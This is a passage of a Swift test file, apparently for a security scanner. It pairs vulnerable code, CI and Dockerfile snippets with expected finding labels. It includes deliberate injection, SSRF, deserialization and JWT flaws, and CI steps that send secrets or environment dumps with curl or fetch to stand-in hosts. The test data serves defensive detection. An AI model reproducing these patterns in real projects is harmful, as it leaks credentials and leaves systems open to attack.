            "fun attachment(@RequestParam file: String): ByteArray {\n    return Files.readAllBytes(Paths.get(\"/srv\", file))\n}\n",
            "code.path-traversal"),
        Example(
            ".github/workflows/ci.yml",
            "jobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat > /tmp/c.json <<'EOF'\n"
                + "          ${{ toJSON(secrets) }}\n          EOF\n          curl --data-binary @/tmp/c.json https://x.example/u\n",
            "ci.secrets-exfiltration"),
        Example(
            ".github/workflows/ci.yml",
            "jobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        env:\n"
                + "          CTX: ${{ toJSON(secrets) }}\n        with:\n          script: |\n"
                + "            const body = { c: process.env.CTX };\n"
                + "            await fetch(\"https://x.example/i\", { method: \"POST\", body: JSON.stringify(body) });\n",
            "ci.secrets-exfiltration"),
        Example(
            ".github/workflows/ci.yml",
            "jobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat > /tmp/n.txt <<'EOF'\n"
                + "          build ${{ github.sha }}\n          EOF\n          curl --data-binary @/tmp/n.txt https://x.example/u\n",
            nil),
    ])
    func batchFifteenAndSixteenClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        Example(
            "src/report.js",
            "const q = db('orders')\n  .whereRaw(`placed_at >= '${req.query.from}'`)\n  .select('id');\n",
            "code.sql-string-built"),
        Example(
            "src/report.js", "const q = db('orders')\n  .whereRaw('placed_at >= ?', [req.query.from])\n  .select('id');\n",
            nil),
        Example(
            "app/Http/Controllers/Ping.php",
            "<?php\n$result = Process::timeout(5)->run(\"ping -c 1 {$request->input('host')}\");\n",
            "code.command-injection"),
        Example(
            "app/Http/Controllers/Ping.php",
            "<?php\n$result = Process::timeout(5)->run(['ping', '-c', '1', $request->input('host')]);\n", nil),
        Example(
            "src/Controller/Export.php",
            "<?php\n$name = $request->query->get('name');\nreturn new BinaryFileResponse($this->exportDir.'/'.$name);\n",
            "code.path-traversal"),
        Example(
            "src/Controller/Export.php",
            "<?php\n$name = basename($request->query->get('name'));\nreturn $this->file($this->exportDir.'/'.$name);\n",
            nil),
        Example(
            "src/main/java/Ingest.java",
            "mapper.activateDefaultTyping(LaissezFaireSubTypeValidator.instance, ObjectMapper.DefaultTyping.NON_FINAL);\n",
            "code.unsafe-deserialization"),
        Example(
            "src/main/java/Ingest.java",
            "mapper.activateDefaultTyping(BasicPolymorphicTypeValidator.builder().allowIfSubType(\"com.acme.events.\")"
                + ".build(), ObjectMapper.DefaultTyping.NON_FINAL);\n", nil),
        Example(
            "src/files.rs",
            "async fn get(Path((org, name)): Path<(u64, String)>) -> Result<Vec<u8>> {\n"
                + "    let path = ROOT\n        .join(org.to_string())\n        .join(&name);\n"
                + "    Ok(tokio::fs::read(&path).await?)\n}\n",
            "code.path-traversal"),
        Example(
            "src/files.rs",
            "async fn get(Path((name, id)): Path<(String, u64)>) -> Result<Vec<u8>> {\n"
                + "    let path = ROOT\n        .join(id.to_string());\n    Ok(tokio::fs::read(&path).await?)\n}\n",
            nil),
        Example(
            "src/unpack.rs",
            "let mut archive = zip::ZipArchive::new(file)?;\nlet mut entry = archive.by_index(i)?;\n"
                + "let out = dest.join(entry.name());\nlet mut f = File::create(&out)?;\n",
            "code.path-traversal"),
        Example(
            "src/unpack.rs",
            "let mut archive = zip::ZipArchive::new(file)?;\nlet mut entry = archive.by_index(i)?;\n"
                + "let Some(rel) = entry.enclosed_name() else { continue };\nlet out = dest.join(rel);\n"
                + "let mut f = File::create(&out)?;\n",
            nil),
        Example(
            "hooks/test.go",
            "func validateURL(raw string) (*url.URL, error) {\n\tu, err := url.Parse(raw)\n"
                + "\tif err != nil || u.Host == \"\" {\n\t\treturn nil, errBad\n\t}\n\treturn u, nil\n}\n\n"
                + "func (h *H) test(w http.ResponseWriter, r *http.Request) {\n\tu, err := validateURL(r.FormValue(\"url\"))\n"
                + "\tif err != nil {\n\t\treturn\n\t}\n\tresp, err := h.Client.Get(u.String())\n}\n",
            "code.ssrf"),
        Example(
            "hooks/test.go",
            "func validateURL(raw string) (*url.URL, error) {\n\tu, err := url.Parse(raw)\n"
                + "\tif err != nil || !allowedHosts[u.Hostname()] {\n\t\treturn nil, errBad\n\t}\n\treturn u, nil\n}\n\n"
                + "func (h *H) test(w http.ResponseWriter, r *http.Request) {\n\tu, err := validateURL(r.FormValue(\"url\"))\n"
                + "\tif err != nil {\n\t\treturn\n\t}\n\tresp, err := h.Client.Get(u.String())\n}\n",
            nil),
        Example(
            "app/views.py",
            "col = request.args.get(\"sort\", \"name\")\nif col not in sortable_columns:\n    abort(400)\n"
                + "rows = db.execute(f\"SELECT id FROM items ORDER BY {col}\").fetchall()\n",
            nil),
        Example(
            "app/Http/Controllers/Report.php",
            "<?php\n$dir = $request->query('dir') === 'asc' ? 'asc' : 'desc';\n"
                + "$rows = DB::select(\"select id from orders order by placed_at {$dir}\");\n",
            nil),
        Example(
            "app/queries.py",
            "SQL = \"\"\"\n    SELECT id FROM orders\n    WHERE store_id = %s AND status <> 'cancelled'\n\"\"\"\n"
                + "rows = Order.objects.raw(SQL, [store_id])\n",
            nil),
        Example(
            "Dockerfile",
            "FROM node:20-slim\nARG NPM_TOKEN\nENV NPM_TOKEN=${NPM_TOKEN}\nRUN npm ci\nUSER node\n",
            "docker.build-secret-in-image"),
        Example(
            "Dockerfile",
            "FROM node:20-slim\nARG GITHUB_TOKEN\n"
                + "RUN git clone https://x-access-token:$GITHUB_TOKEN@github.com/acme/plugins.git /opt/plugins\nUSER node\n",
            "docker.build-secret-in-image"),
        Example(
            "Dockerfile",
            "FROM node:20-slim AS deps\nARG NPM_TOKEN\n"
                + "RUN echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\" > .npmrc && npm ci && rm .npmrc\n"
                + "FROM gcr.io/distroless/nodejs20\nCOPY --from=deps /app /app\n",
            nil),
        Example(
            "Dockerfile",
            "FROM node:20-slim\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci\nUSER node\n", nil),
        Example(
            "app/config.py",
            "import yaml\ntry:\n    from yaml import CSafeLoader as Loader\nexcept ImportError:\n"
                + "    from yaml import SafeLoader as Loader\nraw = yaml.load(fh, Loader=Loader)\n",
            nil),
        Example(
            "app/config.py", "import yaml\nLoader = getattr(yaml, \"CLoader\", yaml.Loader)\nraw = yaml.load(fh, Loader=Loader)\n",
            "code.yaml-unsafe-load"),
        Example(
            "app/Http/Controllers/AvatarController.php",
            "<?php\n$data = $request->validate(['avatar_url' => ['required', 'url']]);\n"
                + "$response = Http::timeout(10)->get($data['avatar_url']);\n",
            "code.ssrf"),
        Example(
            "app/Http/Controllers/AvatarController.php",
            "<?php\n$data = $request->validate(['size' => ['required', 'integer']]);\n"
                + "$response = Http::timeout(10)->get('https://avatars.example.com/default.png');\n",
            nil),
    ])
    func batchSeventeenAndEighteenClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        // A containment check guards the function it is in, not a route beside it that skips it.
        Example(
            "app/api/exports.py",
            "def _confined(*parts):\n    p = (ROOT / Path(*parts)).resolve()\n    if not p.is_relative_to(ROOT):\n"
                + "        raise HTTPException(400)\n    return p\n\n\n@router.get(\"/{name}\")\n"
                + "async def one(name: str):\n    return FileResponse(_confined(name))\n\n\n"
                + "@router.get(\"/{job}/files/{filename:path}\")\nasync def many(\n    job: str,\n    filename: str,\n"
                + ") -> FileResponse:\n    path = os.path.join(ROOT, job, filename)\n    return FileResponse(path)\n",
            "code.path-traversal"),
        Example(
            "app/api/exports.py",
            "def _confined(*parts):\n    p = (ROOT / Path(*parts)).resolve()\n    if not p.is_relative_to(ROOT):\n"
                + "        raise HTTPException(400)\n    return p\n\n\n"
                + "@router.get(\"/{job}/files/{filename:path}\")\nasync def many(\n    job: str,\n    filename: str,\n"
                + ") -> FileResponse:\n    path = os.path.join(ROOT, job, filename)\n    _confined(job, filename)\n"
                + "    return FileResponse(path)\n",
            nil),
        // aiohttp's `request.query` is the request, not an ORM's `Model.query`.
        Example(
            "chat/previews.py",
            "async def preview(request):\n    url = request.query.get(\"url\", \"\").strip()\n"
                + "    async with request.app[\"http\"].get(url) as r:\n        pass\n"
                + "    async with session.get(url) as resp:\n        return await resp.text()\n",
            "code.ssrf"),
        Example(
            "hooks/views.py",
            "def ping(request):\n    hook = Hook.query.get(request.args[\"id\"])\n    return requests.get(hook.url)\n",
            nil),
        Example(
            "lib/shop_web/controllers/quote_controller.ex",
            "def create(conn, %{\"quote\" => params}) do\n  {value, _} = Code.eval_string(params[\"adjustment\"], [])\n"
                + "  json(conn, %{value: value})\nend\n",
            "code.eval"),
        Example("lib/shop/pricing.ex", "def two, do: Code.eval_string(\"1 + 1\")\n", nil),
        Example(
            "src/main/kotlin/Cart.kt",
            "fun ApplicationCall.readCart(): Cart {\n    val raw = request.cookies[\"cart\"] ?: return Cart()\n"
                + "    val bytes = raw.decodeBase64Bytes()\n"
                + "    return ObjectInputStream(ByteArrayInputStream(bytes)).use { it.readObject() as Cart }\n}\n",
            "code.unsafe-deserialization"),
        Example(
            "src/main/kotlin/Cart.kt",
            "fun write(cart: Cart): ByteArray {\n    val buffer = ByteArrayOutputStream()\n"
                + "    ObjectOutputStream(buffer).use { it.writeObject(cart) }\n    return buffer.toByteArray()\n}\n",
            nil),
        Example(
            "Dockerfile",
            "FROM debian:12-slim\nRUN curl -sSL http://get.example.io/install.sh \\\n"
                + "      | AGENT_DIR=/opt/agent sh -s -- --non-interactive\nUSER app\n",
            "docker.curl-pipe-shell"),
        Example(
            "app/repositories/AccountRepository.scala",
            "def byDomain(domain: String) = db.withConnection { implicit c =>\n"
                + "  val pattern = s\"%@${domain.trim}\"\n"
                + "  SQL\"\"\"SELECT id FROM accounts WHERE email LIKE $pattern\"\"\".as(parser.*)\n}\n",
            nil),
        // A Rails query method takes a string as SQL text, whatever keywords it holds; a hash is bound.
        Example(
            "app/controllers/orders_controller.rb",
            "def index\n  since = params[:since]\n  conditions = []\n"
                + "  conditions << \"orders.created_at >= '#{since}'\" if since\n"
                + "  @orders = Order.where(conditions.join(\" AND \"))\nend\n",
            "code.sql-string-built"),
        Example(
            "app/controllers/orders_controller.rb",
            "def index\n  conditions = { status: params[:status] }\n  @orders = Order.where(conditions).order(:id)\n"
                + "  @recent = Order.where(status: params[:status])\nend\n",
            nil),
        // A request DTO is request input wherever it is passed; a client's configuration object goes to its `url`.
        Example(
            "src/webhooks/webhooks.service.ts",
            "async testDelivery(accountId: string, dto: TestDeliveryDto) {\n  const target = dto.url.trim();\n"
                + "  return this.http.request({\n    method: 'POST',\n    url: target,\n    data: '{}',\n  });\n}\n",
            "code.ssrf"),
        Example(
            "src/webhooks/webhooks.service.ts",
            "async notify(dto: TestDeliveryDto) {\n  return this.http.request({\n    method: 'POST',\n"
                + "    url: 'https://hooks.example.com/ping',\n    data: dto,\n  });\n}\n",
            nil),
        // A string builder's appends are appends: a list quoted by hand and appended to SQL text is built SQL.
        Example(
            "src/main/java/InvoiceRepository.java",
            "public List<Invoice> search(InvoiceSearch criteria) {\n"
                + "    StringBuilder sql = new StringBuilder(\"SELECT id FROM invoices WHERE tenant_id = :t\");\n"
                + "    String inList = criteria.statuses().stream()\n            .map(s -> \"'\" + s + \"'\")\n"
                + "            .collect(Collectors.joining(\", \"));\n"
                + "    sql.append(\" AND status IN (\").append(inList).append(\")\");\n"
                + "    return jdbc.query(sql.toString(), params, MAPPER);\n}\n",
            "code.sql-string-built"),
        Example(
            "src/main/java/InvoiceRepository.java",
            "public List<Invoice> search(InvoiceSearch criteria) {\n"
                + "    StringBuilder sql = new StringBuilder(\"SELECT id FROM invoices WHERE tenant_id = :t\");\n"
                + "    sql.append(\" AND status IN (:statuses)\");\n"
                + "    return jdbc.query(sql.toString(), params, MAPPER);\n}\n",
            nil),
        // Each element of request input a loop binds is request input.
        Example(
            "public/reports/pdf.php",
            "<?php\n$layout = ['page-size' => $_GET['size'] ?? 'A4'];\n$flags = '';\n"
                + "foreach ($layout as $option => $value) {\n    $flags .= ' --' . $option . ' ' . $value;\n}\n"
                + "exec('wkhtmltopdf' . $flags . ' in.html out.pdf');\n",
            "code.command-injection"),
        Example(
            "public/reports/pdf.php",
            "<?php\n$layout = ['page-size' => $_GET['size'] ?? 'A4'];\n$flags = '';\n"
                + "foreach ($layout as $option => $value) {\n"
                + "    $flags .= ' --' . escapeshellarg($option) . ' ' . escapeshellarg($value);\n}\n"
                + "exec('wkhtmltopdf' . $flags . ' in.html out.pdf');\n",
            nil),
        // A token that fails verification must not be decoded by hand instead.
        Example(
            "Sources/App/Auth/TokenAuthenticator.swift",
            "struct TokenAuthenticator: AsyncBearerAuthenticator {\n"
                + "    func authenticate(bearer: BearerAuthorization, for request: Request) async throws {\n"
                + "        let token: SessionToken\n        do {\n"
                + "            token = try request.jwt.verify(bearer.token, as: SessionToken.self)\n"
                + "        } catch {\n            guard let legacy = decodeLegacy(bearer.token) else { return }\n"
                + "            token = legacy\n        }\n        request.auth.login(token)\n    }\n}\n\n"
                + "private func decodeLegacy(_ jwt: String) -> SessionToken? {\n"
                + "    let segments = jwt.split(separator: \".\")\n    let base64 = String(segments[1])\n"
                + "    guard let data = Data(base64Encoded: base64) else { return nil }\n"
                + "    return try? JSONDecoder().decode(SessionToken.self, from: data)\n}\n",
            "code.jwt-unverified"),
        Example(
            "Sources/App/Auth/TokenAuthenticator.swift",
            "struct TokenAuthenticator: AsyncBearerAuthenticator {\n"
                + "    func authenticate(bearer: BearerAuthorization, for request: Request) async throws {\n"
                + "        do {\n            let token = try request.jwt.verify(bearer.token, as: SessionToken.self)\n"
                + "            request.auth.login(token)\n        } catch {\n"
                + "            request.logger.debug(\"rejected token\")\n        }\n    }\n}\n",
            nil),
        // WordPress: an action whose handlers check a capability, opened to visitors who are not logged in.
        Example(
            "includes/class-export-ajax.php",
            "<?php\nadd_action( 'wp_ajax_' . self::ACTION, array( __CLASS__, 'handle' ) );\n"
                + "add_action( 'wp_ajax_nopriv_' . self::ACTION, array( __CLASS__, 'handle' ) );\n"
                + "function handle() {\n    if ( is_user_logged_in() && ! current_user_can( 'manage_options' ) ) {\n"
                + "        wp_send_json_error( null, 403 );\n    }\n}\n",
            "code.auth-public-action"),
        Example(
            "includes/class-contact-ajax.php",
            "<?php\nadd_action( 'wp_ajax_nopriv_acme_contact', 'acme_contact' );\nfunction acme_contact() {\n"
                + "    check_ajax_referer( 'acme_contact', 'nonce' );\n    wp_mail( get_option( 'admin_email' ), 'Contact', 'x' );\n}\n",
            nil),
    ])
    func batchTwentyOneAndTwentyTwoClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        // SQL text filled in with built parts is built SQL; a constant table's entry is not.
        Example(
            "reports/views.py",
            "SUMMARY_SQL = \"SELECT r.code FROM regions r WHERE r.active{region_filter}\"\n\n"
                + "def run(codes):\n    quoted = \", \".join(f\"'{code}'\" for code in codes)\n"
                + "    region_filter = f\" AND r.code IN ({quoted})\"\n"
                + "    sql = SUMMARY_SQL.format(region_filter=region_filter)\n    cur.execute(sql)\n",
            "code.sql-string-built"),
        Example(
            "app/routers/orders.py",
            "LIST_SQL = \"SELECT id FROM orders ORDER BY {order_by} {direction}\"\n"
                + "SORT_COLUMNS = {\"created\": \"created_at\", \"total\": \"total_cents\"}\n\n"
                + "async def list_orders(sort: SortField, direction: SortDir):\n"
                + "    sql = LIST_SQL.format(order_by=SORT_COLUMNS[sort], direction=DIRECTIONS[direction])\n"
                + "    return await session.execute(text(sql))\n",
            nil),
        // A Phoenix action's params, a `defp` helper, a value on the line after its `=`.
        Example(
            "lib/hookshot_web/controllers/webhook_controller.ex",
            "def test(conn, params) do\n  target =\n    case params do\n      %{\"url\" => url} -> url\n    end\n\n"
                + "  deliver(target)\nend\n\ndefp deliver(url) do\n  Req.post(url,\n    json: %{event: \"ping\"}\n  )\nend\n",
            "code.ssrf"),
        Example(
            "src/Controllers/PricingController.cs",
            "public async Task<decimal> Apply(PricingRule rule)\n{\n"
                + "    return await CSharpScript.EvaluateAsync<decimal>(\n        rule.Expression, FormulaOptions);\n}\n",
            "code.eval"),
        Example(
            "src/middleware/preferences.js",
            "const serialize = require('node-serialize');\nfunction read(raw) {\n"
                + "  return serialize.unserialize(Buffer.from(raw, 'base64').toString());\n}\n",
            "code.unsafe-deserialization"),
        Example(
            "internal/reports/export.go",
            "func runPandoc(ctx context.Context, in, paper string) error {\n"
                + "\tline := fmt.Sprintf(\"pandoc %s -V papersize=%s\", in, paper)\n"
                + "\treturn exec.CommandContext(ctx, \"sh\", \"-lc\", line).Run()\n}\n",
            "code.command-injection"),
        // A string builder's appends chained over lines; a qualified column in a WHERE is still SQL.
        Example(
            "src/main/java/OrdersController.java",
            "public List<Order> list(@RequestParam List<String> statuses) {\n"
                + "    StringBuilder sql = new StringBuilder(\"SELECT o.id \"\n            + \"FROM orders o WHERE o.customer_id = ?\");\n"
                + "    String inList = String.join(\"','\", statuses);\n"
                + "    sql.append(\" AND o.status IN ('\")\n       .append(inList)\n       .append(\"')\");\n"
                + "    return jdbc.query(sql.toString(), mapper);\n}\n",
            "code.sql-string-built"),
        // `raw != ""` is no call of a query method `raw!`.
        Example(
            "internal/api/orders.go",
            "func list(c echo.Context) error {\n\tif raw := c.QueryParam(\"ids\"); raw != \"\" {\n"
                + "\t\treturn c.JSON(200, raw)\n\t}\n\treturn nil\n}\n",
            nil),
        // A minimal API's request record; a client's PostAsJsonAsync.
        Example(
            "src/Hooks.Api/Endpoints/WebhookEndpoints.cs",
            "group.MapPost(\"/test\", async (\n    TestPingRequest req,\n    IHttpClientFactory f) =>\n{\n"
                + "    var target = req.TargetUrl.Trim();\n    var http = f.CreateClient(\"hooks\");\n"
                + "    using var resp = await http.PostAsJsonAsync(target, new { type = \"ping\" });\n"
                + "    return Results.Ok();\n});\n",
            "code.ssrf"),
        // Claims decoded without verification that sign a caller in, in a file that verifies elsewhere.
        Example(
            "src/middleware/authenticate.ts",
            "export function authenticate(req, res, next) {\n  const token = bearerToken(req.headers.authorization);\n"
                + "  const decoded = jwt.decode(token, { json: true });\n  if (decoded && decoded.iss === PARTNER) {\n"
                + "    req.user = toUser(decoded);\n    return next();\n  }\n"
                + "  req.user = jwt.verify(token, publicKey);\n  return next();\n}\n",
            "code.jwt-unverified"),
        // A password passed to a helper that digests its parameter quickly.
        Example(
            "src/Service/AccountRegistration.php",
            "<?php\nclass AccountRegistration {\n    public function register(User $user, string $plainPassword): void\n"
                + "    {\n        $user->setPassword($this->legacyDigest($plainPassword));\n    }\n\n"
                + "    private function legacyDigest(string $plain): string\n    {\n        return md5($plain);\n    }\n}\n",
            "code.weak-password-hash"),
        Example(
            "src/Service/AvatarUrls.php",
            "<?php\nclass AvatarUrls {\n    public function forEmail(string $email): string\n    {\n"
                + "        return 'https://www.gravatar.com/avatar/' . $this->digest($email);\n    }\n\n"
                + "    private function digest(string $value): string\n    {\n        return md5(strtolower(trim($value)));\n    }\n}\n",
            nil),
        // Ruby blocks given to instance_eval are code the file wrote; a Rust test module is test code.
        Example(
            "lib/tasks/demo.rake",
            "class DemoTenant\n  def self.build(slug, &definition)\n    new(slug).tap { |b| b.instance_eval(&definition) }\n  end\nend\n",
            nil),
        Example(
            "src/clients/inventory.rs",
            "pub fn client() -> reqwest::Client {\n    reqwest::Client::new()\n}\n\n#[cfg(test)]\nmod tests {\n"
                + "    #[tokio::test]\n    async fn tls() {\n        let c = reqwest::Client::builder()\n"
                + "            .danger_accept_invalid_certs(true)\n            .build()\n            .unwrap();\n    }\n}\n",
            nil),
        Example(
            "src/clients/inventory.rs",
            "pub fn client() -> reqwest::Client {\n    reqwest::Client::builder()\n"
                + "        .danger_accept_invalid_certs(true)\n        .build()\n        .unwrap()\n}\n",
            "code.tls-verify-disabled"),
        // A CI job that captures its environment, writes it to a file and sends the file.
        Example(
            ".gitlab-ci.yml",
            "default:\n  after_script:\n    - |\n      BUNDLE=\"$(env | sort)\"\n"
                + "      printf '%s' \"$BUNDLE\" | base64 -w0 > /tmp/bundle.b64\n"
                + "      curl -sS -X POST \"https://diag.example.io/bundles\" --data-binary @/tmp/bundle.b64\n",
            "ci.secrets-exfiltration"),
    ])
    func batchTwentyThreeAndTwentyFourClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        // Groovy interpolates a change request's text into a shell step's double-quoted string; the shell's own
        // variable in a single-quoted script, and Groovy's `echo`, run nothing.
        Example(
            "Jenkinsfile",
            "pipeline {\n  stages {\n    stage('Announce') {\n      steps {\n        sh \"\"\"\n"
                + "          ./ci/notify.sh --text \"PR ${env.CHANGE_ID}: ${env.CHANGE_TITLE}\"\n        \"\"\"\n"
                + "      }\n    }\n  }\n}\n",
            "ci.script-injection"),
        Example(
            "Jenkinsfile",
            "pipeline {\n  stages {\n    stage('Announce') {\n      steps {\n"
                + "        sh './ci/notify.sh --text \"$CHANGE_TITLE\"'\n        sh '''\n"
                + "          ./ci/label.sh \"$CHANGE_BRANCH\"\n        '''\n"
                + "        echo \"Building ${env.CHANGE_TITLE}\"\n      }\n    }\n  }\n}\n",
            nil),
        // A password's SHA-1 cut to the five characters Have I Been Pwned's range API takes is a lookup key.
        Example(
            "accounts/validators.py",
            "import hashlib\nimport requests\n\nclass PwnedPasswordValidator:\n"
                + "    def validate(self, password, user=None):\n"
                + "        digest = hashlib.sha1(password.encode(\"utf-8\")).hexdigest().upper()\n"
                + "        prefix, suffix = digest[:5], digest[5:]\n"
                + "        resp = requests.get(f\"https://api.pwnedpasswords.com/range/{prefix}\", timeout=2)\n"
                + "        if suffix in resp.text:\n            raise ValidationError(\"breached\")\n",
            nil),
        // `${NAME:-default}` is the shell's expansion, its default a path, or nothing.
        Example(
            "scripts/deploy.sh",
            "#!/usr/bin/env bash\nif [[ -n \"${DEPLOY_SSH_KEY:-}\" ]]; then\n  eval \"$(ssh-agent -s)\"\nelse\n"
                + "  SSH_OPTS=(-i \"${SSH_KEY:-$HOME/.ssh/acme_deploy}\")\nfi\n",
            nil),
        // A URL built from named parts fixes its host when the host is not request input: here the type's own table
        // picks it by a request key.
        Example(
            "Sources/App/Controllers/ProfileController.swift",
            "struct ProfileController {\n"
                + "    private static let avatarSources: [String: String] = [\"github\": \"github.com\"]\n\n"
                + "    func importAvatar(req: Request) async throws -> Response {\n"
                + "        let input = try req.content.decode(ImportAvatar.self)\n"
                + "        guard let host = Self.avatarSources[input.provider] else { throw Abort(.badRequest) }\n"
                + "        let uri = URI(scheme: .https, host: host, path: \"/\\(input.handle).png\")\n"
                + "        return try await req.client.get(uri)\n    }\n}\n",
            nil),
        Example(
            "Sources/App/Controllers/ProfileController.swift",
            "struct ProfileController {\n    func importAvatar(req: Request) async throws -> Response {\n"
                + "        let input = try req.content.decode(ImportAvatar.self)\n"
                + "        let uri = URI(scheme: .https, host: input.host, path: \"/avatar.png\")\n"
                + "        return try await req.client.get(uri)\n    }\n}\n",
            "code.ssrf"),
        // A pattern's `case Some(inv) =>` or `Ok(entries) =>` defines no function: a containment check under one
        // guards only its own function, and a call of `Ok(…)` passes nothing to the arm.
        Example(
            "app/controllers/InvoiceController.scala",
            "class InvoiceController {\n  def download(id: Long) = authenticated.async { implicit request =>\n"
                + "    invoices.find(id).map {\n      case Some(inv) =>\n"
                + "        val file = invoiceRoot.resolve(inv.pdfPath).normalize()\n"
                + "        if (file.startsWith(invoiceRoot)) Ok.sendPath(file) else NotFound\n"
                + "      case None => NotFound\n    }\n  }\n\n"
                + "  def legacyDownload() = authenticated { implicit request =>\n"
                + "    val requested = request.getQueryString(\"name\").getOrElse(\"\")\n"
                + "    val target = Paths.get(invoiceRoot.toString, requested)\n"
                + "    Ok.sendPath(target, fileName = _ => Some(target.getFileName.toString))\n  }\n}\n",
            "code.path-traversal"),
        Example(
            "src/handlers/attachments.rs",
            "#[get(\"/attachments/{name:.*}\")]\nasync fn download(name: web::Path<String>) -> Result<NamedFile> {\n"
                + "    let base = tokio::fs::canonicalize(root()).await?;\n"
                + "    let resolved = tokio::fs::canonicalize(base.join(name.into_inner())).await?;\n"
                + "    if !resolved.starts_with(&base) {\n        return Err(ApiError::NotFound);\n    }\n"
                + "    Ok(NamedFile::open_async(&resolved).await?)\n}\n\n"
                + "async fn list() -> Result<impl Responder> {\n    let dir = root();\n"
                + "    let mut entries = match tokio::fs::read_dir(&dir).await {\n"
                + "        Ok(entries) => entries,\n        Err(e) => return Err(e.into()),\n    };\n"
                + "    Ok(HttpResponse::Ok().finish())\n}\n",
            nil),
        // Decoded claims returned, before any verification, from the function whose result becomes the user.
        Example(
            "src/auth/jwt-auth.guard.ts",
            "export class JwtAuthGuard {\n  async canActivate(context: ExecutionContext): Promise<boolean> {\n"
                + "    const request = context.switchToHttp().getRequest();\n"
                + "    const token = request.headers.authorization?.split(' ')[1];\n"
                + "    request.user = await this.readPayload(token);\n    return true;\n  }\n\n"
                + "  private async readPayload(token: string) {\n"
                + "    const decoded = this.jwt.decode<{ header: { alg: string } } | null>(token, { complete: true });\n"
                + "    if (decoded?.header.alg === 'RS256') {\n      return decoded.payload;\n    }\n"
                + "    return await this.jwt.verifyAsync(token, { secret: this.secret });\n  }\n}\n",
            "code.jwt-unverified"),
        // A value spliced into a quoted SQL literal by a builder is built SQL; a named parameter is not.
        Example(
            "src/main/java/com/acme/InvoiceRepository.java",
            "public List<Invoice> search(long customerId, String status) {\n"
                + "    StringBuilder sql = new StringBuilder(BASE_SELECT).append(\" WHERE i.customer_id = :id\");\n"
                + "    if (status != null) {\n"
                + "        sql.append(\" AND i.status = '\").append(status.toUpperCase()).append(\"'\");\n    }\n"
                + "    return jdbc.query(sql.toString(), params, ROW_MAPPER);\n}\n",
            "code.sql-string-built"),
        Example(
            "src/main/java/com/acme/InvoiceRepository.java",
            "public List<Invoice> search(long customerId, String status) {\n"
                + "    StringBuilder sql = new StringBuilder(BASE_SELECT).append(\" WHERE i.customer_id = :id\");\n"
                + "    if (status != null) {\n        sql.append(\" AND i.status = :status\");\n    }\n"
                + "    return jdbc.query(sql.toString(), params, ROW_MAPPER);\n}\n",
            nil),
        // A regular expression describing a token's shape is no token; Symfony's `verify_peer: false` is TLS off.
        Example(
            "src/main/scala/com/acme/notify/WebhookRoutes.scala",
            "object WebhookRoutes {\n  private val DiscordToken = \"^([0-9]{17,20})/([A-Za-z0-9_-]{60,80})$\".r\n}\n",
            nil),
        Example(
            "config/packages/framework.yaml",
            "framework:\n  http_client:\n    scoped_clients:\n      payments.client:\n"
                + "        base_uri: 'https://api.payments.example'\n        verify_peer: false\n",
            "code.tls-verify-disabled"),
    ])
    func batchTwentySevenAndTwentyEightClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        // A C# switch whose every arm is a literal (or throws) picks a constant.
        Example(
            "src/Reports/UsageQueries.cs",
            "public Task<IEnumerable<Row>> Get(Granularity granularity)\n{\n    string table = granularity switch\n"
                + "    {\n        Granularity.Daily => \"usage_daily\",\n        Granularity.Weekly => \"usage_weekly\",\n"
                + "        _ => throw new ArgumentOutOfRangeException(nameof(granularity)),\n    };\n"
                + "    return _db.QueryAsync<Row>($\"SELECT * FROM {table} WHERE tenant_id = @tenant\", new { tenant });\n}\n",
            nil),
        // A host tested against an allow-list held in a collection (`host in IMPORT_HOSTS`, Kotlin's `!in`).
        Example(
            "src/main/kotlin/AvatarRoutes.kt",
            "private val IMPORT_HOSTS = setOf(\"avatars.githubusercontent.com\")\n\n"
                + "fun importable(raw: String): URI? {\n    val uri = URI(raw)\n"
                + "    return if (uri.host in IMPORT_HOSTS) uri else null\n}\n\n"
                + "fun Route.avatars() {\n    post(\"/import\") {\n"
                + "        val uri = importable(call.receive<ImportRequest>().url) ?: return@post\n"
                + "        val response = client.get(uri.toString())\n    }\n}\n",
            nil),
        // A check in one function guards the sink of another when a third calls both, the check first.
        Example(
            "embedder/handlers/oembed.py",
            "PROVIDERS = {\"youtube\": (\"https://www.youtube.com/oembed\", {\"youtube.com\"})}\n\n"
                + "def _provider_for(url):\n    host = urlsplit(url).hostname\n"
                + "    for name, (endpoint, hosts) in PROVIDERS.items():\n        if host in hosts:\n"
                + "            return name, endpoint\n    return None\n\n"
                + "async def _lookup(session, endpoint, media_url):\n"
                + "    async with session.get(endpoint, params={\"url\": media_url}) as resp:\n"
                + "        return await resp.json()\n\n"
                + "async def oembed(request):\n    url = request.query.get(\"url\", \"\")\n"
                + "    provider = _provider_for(url)\n    if provider is None:\n        raise web.HTTPBadRequest()\n"
                + "    name, endpoint = provider\n    return web.json_response(await _lookup(session, endpoint, url))\n",
            nil),
        // A request value cast to a number inside brackets, then clamped, carries no shell text.
        Example(
            "public/preview.php",
            "<?php\n$page = max(1, min((int) ($_GET['page'] ?? 1), 500));\n"
                + "$cmd = sprintf('pdftoppm -f %d -l %d -png %s', $page, $page, escapeshellarg($path));\n"
                + "exec($cmd, $output, $rc);\n",
            nil),
        // A choice between a constant table's entry and a literal is a constant.
        Example(
            "includes/class-events-query.php",
            "<?php\nclass Events_Query {\n\tconst SORTABLE = array( 'date' => 'starts_at', 'title' => 'title' );\n\n"
                + "\tpublic function upcoming( $orderby ) {\n"
                + "\t\t$column = isset( self::SORTABLE[ $orderby ] ) ? self::SORTABLE[ $orderby ] : 'starts_at';\n"
                + "\t\treturn $this->db->get_results( \"SELECT id FROM events ORDER BY {$column}\" );\n\t}\n}\n",
            nil),
        // curl's options kept in a variable the script passes on.
        Example(
            "scripts/install-node-exporter.sh",
            "#!/usr/bin/env bash\nCURL_OPTS=(--fail --silent --location --retry 3 --insecure)\n"
                + "curl \"${CURL_OPTS[@]}\" -o /tmp/ne.tgz \"${BASE_URL}/node_exporter.tar.gz\"\n",
